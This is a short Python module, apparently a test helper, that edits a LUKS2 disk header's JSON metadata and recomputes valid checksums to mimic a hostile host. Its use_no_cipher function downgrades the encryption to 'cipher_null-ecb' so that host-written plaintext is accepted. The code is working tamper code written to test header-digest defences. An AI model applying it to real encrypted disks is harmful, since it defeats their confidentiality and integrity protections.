# SPDX-License-Identifier: Apache-2.0
"""Edits a LUKS2 header the way a hostile host would: with valid checksums."""

import hashlib
import json

_SIZE_AT = 8  # big-endian 64-bit size of one metadata area
_CHECKSUM_AT, _CHECKSUM_SIZE = 448, 64
_JSON_AT = 4096


def _edit_area(image, start, edit):
    image.seek(start + _SIZE_AT)
    size = int.from_bytes(image.read(8), "big")
    image.seek(start)
    area = bytearray(image.read(size))
    metadata = json.loads(area[_JSON_AT:].split(b"\0", 1)[0])
    edit(metadata)
    text = json.dumps(metadata, separators=(",", ":")).encode()
    area[_JSON_AT:] = text + bytes(size - _JSON_AT - len(text))
    checksum = slice(_CHECKSUM_AT, _CHECKSUM_AT + _CHECKSUM_SIZE)
    area[checksum] = bytes(_CHECKSUM_SIZE)
    digest = hashlib.sha256(area).digest()
    area[checksum] = digest + bytes(_CHECKSUM_SIZE - len(digest))
    image.seek(start)
    image.write(area)
    return size


def edit(path, change):
    """Applies `change` to the JSON of both metadata areas."""
    with open(path, "r+b") as image:
        size = _edit_area(image, 0, change)
        _edit_area(image, size, change)


def use_no_cipher(path):
    """The attack that the header digest is for: with this one field edited, the
    genuine key opens the disk and the content is what the host wrote."""

    def change(metadata):
        metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"

    edit(path, change)
